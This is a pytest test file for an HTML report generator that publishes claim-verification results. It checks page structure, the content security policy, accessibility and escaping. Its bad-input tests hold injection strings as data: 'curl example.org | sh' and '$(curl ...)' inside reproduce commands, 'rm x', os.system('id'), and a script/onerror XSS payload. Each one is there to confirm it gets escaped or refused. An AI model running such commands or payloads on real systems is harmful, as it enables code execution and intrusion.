"""The pages: well-formed, offline, escaped, complete, and fast with ten thousand checks."""

import json
import re
import shutil
import time
from pathlib import Path

import pytest
from pages import Page, broken_links
from synthetic_results import (
    COUNTEREXAMPLE,
    HISTORY,
    SMALL,
    cell_control,
    check,
    claim,
    clause,
    control,
    figure,
    large,
    results,
    run,
    sha,
    small,
    version_1,
)

from reports import html
from reports.results import ResultsError
from reports.wording import VERDICTS


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    directory = tmp_path_factory.mktemp("report")
    (directory / "results.json").write_text(json.dumps(small()))
    certificate = directory / "certificates" / "mf.strata.strata.json"
    certificate.parent.mkdir()
    certificate.write_text("{}")
    assert html.write(small(), directory, HISTORY) == directory / "index.html"
    return directory


def write(directory, *claims, history=None, **changes):
    html.write(results(*claims, **changes), directory, history)
    return Page(directory / "index.html")


# --- form ---------------------------------------------------------------------------------------------------------


def test_pages_are_well_formed_and_links_resolve(report):
    assert broken_links(report) == []
    assert len(list(report.rglob("*.html"))) == 12 + 3 + 7


def test_no_page_needs_the_network(report):
    for file in [*report.rglob("*.html"), *report.rglob("*.css"), *report.rglob("*.js")]:
        addresses = re.findall(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]+", file.read_text())
        assert set(addresses) <= {"https://arxiv.org", "https://doi.org"}, file
        assert "@import" not in file.read_text()


def test_every_page_has_a_content_security_policy(report):
    """Nothing runs or loads but the files of the report; no element carries code or style of its own."""
    for file in report.rglob("*.html"):
        page = Page(file)
        policy = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page.source)
        assert len(policy) == 1 and page.source.index("Content-Security-Policy") < page.source.index("<link"), file
        rules = dict(rule.split(" ", 1) for rule in policy[0].split("; "))
        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
        assert {rules[name] for name in ("script-src", "style-src", "img-src")} == {"'self'"}
        assert not {name for name in page.attributes if name.startswith("on")} | ({"style"} & page.attributes), file
        assert "<style" not in page.source and not re.search(r"<script(?! src=)", page.source), file


def test_no_backslash_and_no_empty_operator(report):
    for file in report.rglob("*.html"):
        assert "\\" not in file.read_text(), file
        assert not re.search(r"<m[ion][^>]*>\s*</m[ion]>", file.read_text()), file


def test_pages_are_accessible(report):
    for file in report.rglob("*.html"):
        page = Page(file)
        assert page.headings[0] == 1 and page.headings.count(1) == 1, file
        assert all(after - before <= 1 for before, after in zip(page.headings, page.headings[1:], strict=False)), file
        assert all(image.get("alt") for image in page.images), file
        assert len(page.ids) == len(set(page.ids)), file
        assert '<html lang="en">' in page.source
        assert "<caption" in page.source or "<table" not in page.source.replace('<table class="matrix"', "")


def luminance(colour):
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_colours_have_contrast(report):
    """WCAG asks for 4.5 between text and its ground."""
    style = (report / "assets" / "style.css").read_text()
    blocks = re.findall(r":root \{([^}]*--proved[^}]*)\}", style)
    assert len(blocks) == 2
    for block in blocks:
        colours = dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6})", block))
        for name in ("ink", "quiet", "link", *VERDICTS):
            for ground in ("paper", "raised"):
                light, dark = sorted((luminance(colours[name]), luminance(colours[ground])), reverse=True)
                assert (light + 0.05) / (dark + 0.05) >= 4.5, (name, ground)


def test_the_golden_page(report):
    golden = Path(__file__).parent / "golden" / "mf.function-rank.html"
    assert (report / "claims" / "mf.function-rank.html").read_text() == golden.read_text(encoding="utf-8")


# --- content ------------------------------------------------------------------------------------------------------


def text_of(file):
    return " ".join(Page(file).text.split())


def test_the_index_tells_the_run(report):
    text = text_of(report / "index.html")
    assert "Of 12 claims, 1 is refuted, 2 are in error and 2 are vacuous." in text
    assert "2 of the 51 source papers have claims in this run" in text
    assert "0.0002 together, of 0.001 allowed to a run (20 %)" in text
    assert "cupy-cuda13xabsent" in text
    assert "What rests on what" in text
    assert "1 clause not tested at this level, 1 check not run, 1 check with cells that nothing met, 1 probe without a failure" in text


def test_the_index_counts_by_family_and_verdict(report):
    table = re.search(r'<table class="counts">.*?</table>', (report / "index.html").read_text(), re.DOTALL)[0]
    head = re.findall(r'<span class="word">(\w+)</span>', table)
    rows = {name: cells for name, cells in re.findall(r'<tr><th scope="row">(?:<a[^>]*>)?(\w+).*?</th>(.*?)</tr>', table)}
    counts = {
        name: [0 if cell == "·" else int(cell) for cell in re.findall(r"<td[^>]*>(\d+|·)</td>", cells)] for name, cells in rows.items()
    }
    assert head == [verdict for verdict in reversed(VERDICTS) if verdict in SMALL.values()]
    for name, row in counts.items():
        own = [verdict for claim_id, verdict in SMALL.items() if name == "all" or claim_id.startswith(name + ".")]
        assert row[0] == len(own)
        assert row[1 : 1 + len(head)] == [own.count(verdict) for verdict in head]
    assert set(counts) == {"all", "exp", "mf", "toy"}


def test_a_claim_shows_claim_and_finding(report):
    page = Page(report / "claims" / "mf.function-rank.html")
    text = " ".join(page.text.split())
    assert text.index("The claim") < text.index("The finding") < text.index("Check by check")
    for words in (
        "Carries weight: without it the claim fails.",
        "A representative of f* of smaller model rank.",
        "Prop. 1",
        "integers in [-9, 9] over the denominator 4",
        "Certified in each of the last 4 runs.",
        "declared in proofs_check/claims/factorization/matrices.py",
        "Notation of mf",
    ):
        assert words in text
    assert "math" in page.tags
    assert "../notation.html#mf" in page.addresses
    strata = text_of(report / "claims" / "mf.strata.html")
    assert "The verdict changed 2 times in 4 runs, last from certified to proved in run run-3." in strata


def test_symbols_stand_under_the_statement(report):
    source = (report / "claims" / "mf.strata.html").read_text()
    where = re.search(r'<dl class="where">.*?</dl>', source, re.DOTALL)[0]
    assert where.count("<dt>") == 3 and where.count("<dd>is ") == 3
    assert source.index('class="statement"') < source.index('class="where"') < source.index('id="finding"')
    assert 'class="where"' not in (report / "claims" / "mf.wrong.html").read_text()


def test_the_verdict_names_the_weakest_clause(report):
    text = text_of(report / "claims" / "mf.attained.html")
    assert "The clause “training” was not tested here. The check “descent” was skipped: runs from level standard on." in text
    assert "Of the others, “bound” and “attained” are proved." in text
    rows = re.findall(r"<tr><th scope=\"row\">(\w+)", (report / "claims" / "mf.attained.html").read_text())
    assert rows == ["bound", "attained", "training"]
    assert "a witness by ball arithmetic, found again by exact_rank" in text
    assert "exact arithmetic on 225 instances: the entries of a tangent matrix are polynomials of bounded degree" in text


def test_a_rate_has_its_interval(report):
    text = text_of(report / "claims" / "exp.recovery.html")
    assert "n = 7: 0.95 (190 of 200; 95 % interval 0.91 to 0.98), at least 0.8 expected" in text
    assert "spent of 0.0001 declared" in text


def test_controls_say_what_they_predict_and_what_was_observed(report):
    text = text_of(report / "claims" / "mf.strata.html")
    assert "✓ refuted without the overlap: it predicts 5, observed 6 (case 3)" in text
    assert "✓ refuted in each of 2 cells." in text
    assert "d1 = 2, d2 = 3: it predicts 7, observed 6 (case 7)" in text
    corner = text_of(report / "claims" / "toy.corner.html")
    assert "A false prediction survives in 1 of 2 cells" in corner
    assert "1 cell of 4 met by no instance: d1 = 3" in corner


def test_counts_are_shown(report):
    text = text_of(report / "claims" / "mf.strata.html")
    assert "46 met, 0 skipped, 4 outside the hypotheses" in text
    assert "all 23 met" in text
    assert "exact arithmetic on 46 instances in 23 cells: d1 = 1..3; d2 = 1..3; rank = 0..min(d1, d2) strata" in text


def test_the_first_screen_tells_size_and_strength(report):
    """Before what would refute it, every page has a number of size and the strength in words."""
    for name, verdict in SMALL.items():
        source = (report / "claims" / f"{name}.html").read_text()
        assert source.index('class="verdict"') < source.index('id="claim"'), name
        screen = re.sub(r"<[^>]+>", " ", source[source.index('class="verdict"') : source.index('id="checks"')])
        assert verdict in screen, name
        if verdict not in ("skipped", "error"):
            assert re.search(r"\d+ (?:instances?|cells?|cases?)|\d+ of \d+|symbolic computation", screen), name


def test_a_run_of_version_1_has_pages(tmp_path):
    old = version_1(results(claim(), claim("a.wrong", verdict="refuted", checks=[check(status="fails", counterexample=COUNTEREXAMPLE)])))
    html.write(old, tmp_path)
    text = text_of(tmp_path / "claims" / "mf.function-rank.html")
    assert "decided 225 cases without rounding" in text
    assert broken_links(tmp_path) == []


def test_notation_begins_with_what_holds_everywhere(report):
    text = text_of(report / "notation.html")
    assert text.index("Everywhere") < text.index("raised: the transposed matrix") < text.index("model rank at the point")


def test_notation_collects_symbols_by_family(report):
    page = Page(report / "notation.html")
    text = " ".join(page.text.split())
    assert {"exp", "mf", "differing", "silent"} <= set(page.ids)
    assert "numbers of rows and columns of the product, at least 1mf.function-rank, mf.strata" in text
    assert "The papers write different things with the same letter." in text
    assert "8 claims of 12" in text


def test_two_meanings_in_a_family_are_told(tmp_path):
    meanings = [[{"symbol": "R", "meaning": meaning}] for meaning in ("model rank", "the loss")]
    write(tmp_path, claim("a.x", symbols=meanings[0]), claim("a.y", symbols=meanings[1]))
    assert text_of(tmp_path / "notation.html").count("one of 2 meanings in this family") == 2


def test_a_refutation_can_be_repeated_and_kept(report):
    text = Page(report / "claims" / "mf.wrong.html").text
    assert COUNTEREXAMPLE["reproduce"] in text
    assert "the replay by exact_rank fails too" in text
    assert "Fraction('p/q')" in text
    patch = re.search(r"from dataclasses import replace.*?\]\n", text, re.DOTALL)[0]
    compile(patch, "patch", "exec")


def test_the_patch_adds_a_check_that_runs():
    from reports.counterexamples import patch

    refuted = small()["claims"][2]
    code = patch(refuted, refuted["checks"][0])
    from proofs_check import Check, Claim, Control, Outcome, Source

    def run_it(instance, *, formula, context):
        return Outcome.holds()

    strata = Check("strata", "exact", "instances", "all", run_it, lambda context: [1], {"formula": 1}, [Control("c", formula=2)])
    names = {"CLAIMS": [Claim("mf.wrong", "t", "x", Source("p", "w"), [strata]), Claim("mf.other", "t", "x", Source("p", "w"), [strata])]}
    exec(code, names)
    assert [len(entry.checks) for entry in names["CLAIMS"]] == [2, 1]
    kept = names["CLAIMS"][0].checks[1]
    assert kept.name == "strata-case-17"
    assert kept.instances(None) == [COUNTEREXAMPLE["instance"]]


REPRODUCE = "proofs-check reproduce results.json mf.wrong strata 17"


@pytest.mark.parametrize(
    ("changes", "shown"),
    [
        ({}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce results.json mf.wrong strata 17; curl example.org | sh"}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce $(curl example.org) mf.wrong strata 17"}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce '$(id)' x y 3"}, "proofs-check reproduce '$(id)' mf.wrong strata 17"),
        ({"reproduce": "proofs-check reproduce --claims=evil.py x y 3"}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce 'a\nb' x y 3"}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce 'unclosed"}, REPRODUCE),
        ({"reproduce": "proofs-check reproduce run/results.json x y 3 --claims 'my file.py'"}, None),
        ({"case": "0; rm x"}, ""),
        ({"case": -1}, ""),
        ({"case": True}, ""),
    ],
)
def test_a_command_is_built_from_checked_parts(tmp_path, changes, shown):
    expected = "proofs-check reproduce run/results.json mf.wrong strata 17 --claims 'my file.py'" if shown is None else shown
    write(tmp_path, claim("mf.wrong", checks=[check(status="fails", counterexample={**COUNTEREXAMPLE, **changes})]))
    page = Page(tmp_path / "claims" / "mf.wrong.html")
    commands = re.findall(r'<pre class="command"><code>(.*?)</code></pre>', page.source)
    assert commands == ([expected.replace("'", "&#39;")] if expected else [])
    assert "| sh" not in page.text
    assert ("this runs the claims file that it names" in page.text) == ("--claims" in expected)


def test_a_stored_patch_is_not_shown(tmp_path):
    bad = {**COUNTEREXAMPLE, "patch": "import os; os.system('id')"}
    write(tmp_path, claim("mf.wrong", checks=[check(status="fails", counterexample=bad)]))
    assert "os.system" not in Page(tmp_path / "claims" / "mf.wrong.html").text
    odd = check('x"""\nimport os', status="fails", counterexample=COUNTEREXAMPLE)
    write(tmp_path, claim("mf.wrong", checks=[odd]))
    text = Page(tmp_path / "claims" / "mf.wrong.html").text
    assert "def kept" not in text and "Run it again" not in text


def test_undermined_and_unknown_dependencies(report):
    text = " ".join(Page(report / "claims" / "mf.corollary.html").text.split())
    assert "It rests on what is refuted: mf.wrong" in text
    assert "elsewhere.lemma not in this run" in text
    assert "The probe without it found no failure." in text
    assert "Not probed" in text


def test_long_messages_become_lists(tmp_path):
    message = "; ".join(f"n = {number}: {number} of 200 recovered, at most 0.2 expected" for number in range(20))
    write(tmp_path, claim(checks=[check(message=message)]))
    assert Page(tmp_path / "claims" / "mf.function-rank.html").source.count("of 200 recovered") == 20
    assert '<ul class="said">' in (tmp_path / "claims" / "mf.function-rank.html").read_text()


def test_not_verified_lists_what_is_open(report):
    text = text_of(report / "not-verified.html")
    for words in (
        "A law that needs a GPU",
        "A software system; no statement of theory.",
        "mf.attained training: gradient descent ends at such a point",
        "mf.attained descent (training) runs from level standard on",
        "toy.corner strata: d1 = 3",
        "mf.corollary generic holds: no failure on 40 instances",
        "9 of 11 assumptions were dropped by no probe.",
    ):
        assert words in text


PROOF = {
    "status": "proved",
    "file": "factorization/strata.v",
    "theorem": "mf_strata",
    "message": "",
    "control": "control_mf_strata",
    "statement": "forall A <= B, rank A",
    "control_statement": "~ (forall A, rank B)",
    "axioms": ["Classical_Prop.classic"],
    "premises": ["the excluded middle"],
    "seconds": 2.3,
    "lines": 138,
    "key": sha("key"),
    "versions": {"coq": "8.16.1"},
}


def test_theorems_stand_beside_their_statements(tmp_path):
    """Coq's text and ours, premises, axioms, lines, seconds, and the variant that is refuted; proofs that were not checked are named."""
    proof = check("proof", evidence="formal", covers="statement", proof=PROOF, controls=[control("rows and columns exchanged")])
    part = {**proof, "covers": "instances", "scope": "any depth: theorem mf_strata of strata.v"}
    absent = check("proof", evidence="formal", covers="statement", status="skipped", met=0, message="coqc is not installed")
    write(tmp_path, claim("mf.a", checks=[proof]), claim("mf.b", checks=[part]), claim("mf.c", checks=[check(), absent]))
    text = text_of(tmp_path / "proofs.html")
    for words in (
        "2 theorems of 2 claims, accepted by the kernel of Coq 8.16.1",
        "In Coq: mf_strata forall A <= B, rank A",
        "the excluded middle",
        "Classical_Prop.classic",
        "factorization/strata.v, 138 lines, 2.3 s of processor time",
        "Refuted in one place: rows and columns exchanged ~ (forall A, rank B)",
        "a part: any depth.",
        "mf.c proof coqc is not installed",
    ):
        assert words in text
    assert text.count("proves a part") == 1


def test_a_run_without_proofs_says_so(report):
    assert "No theorem was checked in this run." in text_of(report / "proofs.html")


def test_a_run_of_own_claims_speaks_of_these_alone(tmp_path):
    own = {"paper": "A note of ours", "where": "p. 1"}
    index = write(tmp_path, claim("own.x", source=own))
    for text in (index.text, *(text_of(tmp_path / f"{name}.html") for name in ("papers", "not-verified"))):
        assert "source papers" not in text and "No claim about it was in this run" not in text
    assert "A note of ours" in text_of(tmp_path / "papers.html")


def test_papers_with_claims_come_first(report):
    source = (report / "papers.html").read_text()
    assert source.rindex("1 claim</summary>") < source.index("Nothing verified in this run.")


def test_every_claim_has_its_json(report):
    for entry in small()["claims"]:
        document = json.loads((report / "claims" / f"{entry['id']}.json").read_text())
        assert document == {"schema": 2, "run": run(), "claim": entry}


def test_the_graph_links_to_the_claims(report):
    page = Page(report / "graph.html")
    assert "claims/mf.strata.html" in page.addresses
    assert "claims/toy.loose.html" not in page.addresses
    assert page.source.count("<path") == 4


# --- bad input ----------------------------------------------------------------------------------------------------

HOSTILE = '<script>alert("1")</script><img src=x onerror=alert(1)> & \\foo "\' {{ 7*7 }} {% raw %}'


def test_hostile_strings_are_escaped(tmp_path):
    plain = figure("lines", title=HOSTILE, alt=HOSTILE, x_label=HOSTILE, y_label=HOSTILE, marks=[{"label": HOSTILE, "x": 3}])
    plain["data"]["series"][0]["label"] = HOSTILE
    entry = claim(
        "a.b",
        family=HOSTILE,
        title=HOSTILE,
        statement=HOSTILE,
        assumptions=[{"name": HOSTILE, "statement": HOSTILE}],
        source={"paper": HOSTILE, "where": HOSTILE},
        depends_on=[HOSTILE],
        probes=[{"drops": HOSTILE, "fails_without": None, "message": HOSTILE}],
        refuted_by=HOSTILE,
        notes=HOSTILE,
        verdict="refuted",
        file=HOSTILE,
        symbols=[{"symbol": HOSTILE, "meaning": HOSTILE}],
        clauses=[clause(HOSTILE, HOSTILE, verdict="refuted")],
        checks=[
            check(
                HOSTILE,
                scope=HOSTILE,
                status="fails",
                message=HOSTILE,
                because=HOSTILE,
                clauses=[HOSTILE],
                confirmed=HOSTILE,
                witness={HOSTILE: HOSTILE},
                versions={HOSTILE: HOSTILE},
                cells={"met": 1, "missed": [HOSTILE]},
                cell_controls=[cell_control(HOSTILE, True, HOSTILE), cell_control(HOSTILE, False, HOSTILE)],
                distribution=HOSTILE,
                tolerance=HOSTILE,
                certificate=f"../{HOSTILE}",
                counterexample={HOSTILE: HOSTILE, "replay": HOSTILE, "reproduce": f"proofs-check reproduce {HOSTILE}"},
                controls=[control(HOSTILE, False, HOSTILE)],
                figures=[plain],
            )
        ],
    )
    html.write(results(entry, id=HOSTILE, device=HOSTILE, started=HOSTILE, versions={HOSTILE: HOSTILE}), tmp_path, (), [HOSTILE])
    assert broken_links(tmp_path) == []
    for file in tmp_path.rglob("*.html"):
        page = Page(file)
        assert page.source.count("<script") == len(re.findall(r'assets/(?:words|search)\.js" defer></script>', page.source)), file
        assert not {name for name in page.attributes if name.startswith("on")}, file
        assert all(image["src"].startswith("../figures/") for image in page.images)
    assert HOSTILE in Page(tmp_path / "claims" / "a.b.html").text
    for file in tmp_path.rglob("*.svg"):
        assert "<script" not in file.read_text() and "<img" not in file.read_text()


def test_a_hostile_id_is_refused(tmp_path):
    with pytest.raises(ResultsError, match="expected text matching"):
        write(tmp_path, claim("../../outside"))
    assert not list(tmp_path.iterdir())


def test_runs_with_little_in_them(tmp_path):
    assert "The run holds no claim" in write(tmp_path / "empty").text
    write(tmp_path / "bare", claim(checks=[], assumptions=[], source={"paper": "", "where": ""}))
    text = Page(tmp_path / "bare" / "claims" / "mf.function-rank.html").text
    assert "The claim has no check, so nothing was tested." in text
    assert broken_links(tmp_path) == []


def test_a_statement_that_does_not_render_is_shown_as_text(tmp_path):
    write(tmp_path, claim(statement=r"\undefinedcommand{x} \frac{1}"))
    source = (tmp_path / "claims" / "mf.function-rank.html").read_text()
    assert 'class="unset"' in source
    assert "undefinedcommand" in source


def test_a_figure_that_cannot_be_drawn_says_so(tmp_path):
    bad = figure("heatmap", data={"values": [[1, 2]], "x": [1], "y": [1]})
    write(tmp_path, claim(checks=[check(figures=[bad, figure("lines", data={})])]))
    text = Page(tmp_path / "claims" / "mf.function-rank.html").text
    assert "expected 1 rows of 1 values, got 1 rows of [2]" in text
    assert bad["alt"] in text
    assert not (tmp_path / "figures").exists()


def test_a_circle_of_dependencies_is_told(tmp_path):
    text = write(tmp_path, claim("a.x", depends_on=["a.y"]), claim("a.y", depends_on=["a.x"])).text
    assert "run in a circle" in text


def test_a_history_must_make_sense(tmp_path):
    entry = claim()
    for history, expected in (
        ([("r", "1", {}), ("r", "2", {})], "two different runs have the id 'r'"),
        ([(run()["id"], "another time", {})], "has the same id"),
        ([("r", "1", {"a.b": "true"})], "holds the verdict 'true'"),
        ([("r", "1")], "expected (run id, start, verdict of each claim)"),
    ):
        with pytest.raises(ResultsError) as caught:
            write(tmp_path, entry, history=history)
        assert expected in str(caught.value)
    write(tmp_path, entry, history=[("r", "1", {}), ("r", "1", {}), (run()["id"], run()["started"], {entry["id"]: "certified"})])


def test_no_page_grows_with_history(tmp_path):
    history = [(f"r{number:04d}", f"2025-01-{number:04d}", {"mf.function-rank": "certified"}) for number in range(500)]
    write(tmp_path, claim(), history=history)
    assert Page(tmp_path / "claims" / "mf.function-rank.html").source.count('<li class="v-certified"') == 40


def test_pages_are_the_same_twice(tmp_path):
    for name in ("one", "two"):
        html.write(small(), tmp_path / name, HISTORY)
    for file in filter(Path.is_file, (tmp_path / "one").rglob("*.*")):
        assert file.read_bytes() == (tmp_path / "two" / file.relative_to(tmp_path / "one")).read_bytes(), file


# --- size ---------------------------------------------------------------------------------------------------------


def test_ten_thousand_checks(tmp_path):
    seconds = []
    for count, place in ((2_000, tmp_path / "fewer"), (10_000, tmp_path)):
        run_of_many = large(count)
        started = time.process_time()
        html.write(run_of_many, place)
        seconds.append(time.process_time() - started)
    assert seconds[1] < 8 * seconds[0]  # five times as many checks: linear, whatever the machine
    shutil.rmtree(tmp_path / "fewer")
    assert (tmp_path / "index.html").stat().st_size < 2_000_000
    assert max(file.stat().st_size for file in tmp_path.rglob("*.html")) < 2_000_000
    assert len(list((tmp_path / "claims").glob("*.html"))) == 2_500


def test_messages_of_any_length_cost_linear_time(tmp_path):
    """A million characters in every text of a claim, and twice as many: no page shows more than its beginning."""
    seconds = []
    for size in (1_000_000, 2_000_000):
        text = "expected 3, observed 4; $x$ \\frac{1}{2} " * (size // 40)
        plain = figure("lines", title=text, alt=text, x_label=text)
        entry = claim(
            title=text,
            notes=text,
            statement=text,
            refuted_by=text,
            symbols=[{"symbol": text, "meaning": text}],
            checks=[
                check(
                    scope=text,
                    message=text,
                    distribution=text,
                    status="fails",
                    counterexample={**COUNTEREXAMPLE, "instance": text, "replay": text},
                    controls=[control(text, True, text)],
                    cell_controls=[cell_control(text, True, text)],
                    figures=[plain],
                )
            ],
        )
        started = time.process_time()
        write(tmp_path, entry)
        seconds.append(time.process_time() - started)
    assert max(file.stat().st_size for file in tmp_path.rglob("*.html")) < 300_000
    assert seconds[1] < 4 * seconds[0] + 1


def test_the_longest_index(tmp_path):
    html.write(large(html.INDEX_CLAIMS, checks_per_claim=1), tmp_path)
    assert (tmp_path / "index.html").stat().st_size < 2_000_000
